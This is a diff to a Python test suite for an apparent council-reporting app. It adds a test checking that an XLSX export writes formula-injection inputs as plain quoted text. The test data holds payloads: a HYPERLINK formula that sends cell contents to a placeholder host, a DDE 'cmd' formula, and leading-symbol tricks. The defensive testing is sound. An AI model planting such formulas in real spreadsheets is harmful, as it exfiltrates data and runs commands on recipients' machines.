@@ -93,3 +93,23 @@ def test_the_trend_counts_a_unit_missing_only_after_the_deadline():
     series = [Compliance(CouncilSession(id=1, number=1, starts_at=when), when, lines)]
     [week] = trend_dto(series, "fa", dt.UTC).weeks
     assert (week.on_time, week.late, week.missing) == (1, 1, 1)  # not yet due: not missing
+
+
+FORMULAS = ('=HYPERLINK("http://x?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "@SUM(A1)", "\t=1", "\r=1")
+
+
+def test_formula_like_answers_subjects_and_titles_are_written_as_text():
+    reports = Table("گزارش‌ها", ("واحد", "کارهای انجام‌شده"),
+                    tuple(("کمیته", f) for f in FORMULAS), (20, 40))
+    resolutions = Table("مصوبات", ("شماره", "موضوع"),
+                        tuple((i, f) for i, f in enumerate(FORMULAS, 1)), (8, 60))
+    agenda = Table("دستور جلسه", ("ردیف", "عنوان"),
+                   tuple((i, f) for i, f in enumerate(FORMULAS, 1)), (8, 80))
+    pack = Pack(FORMULAS[0], FORMULAS[1], "x", "{page}", (reports, resolutions, agenda), "p")
+    workbook = load_workbook(io.BytesIO(render_xlsx(pack)))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [cell for cell in cells if cell.value in FORMULAS]
+    assert len(texts) == 3 * len(FORMULAS) + 2
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
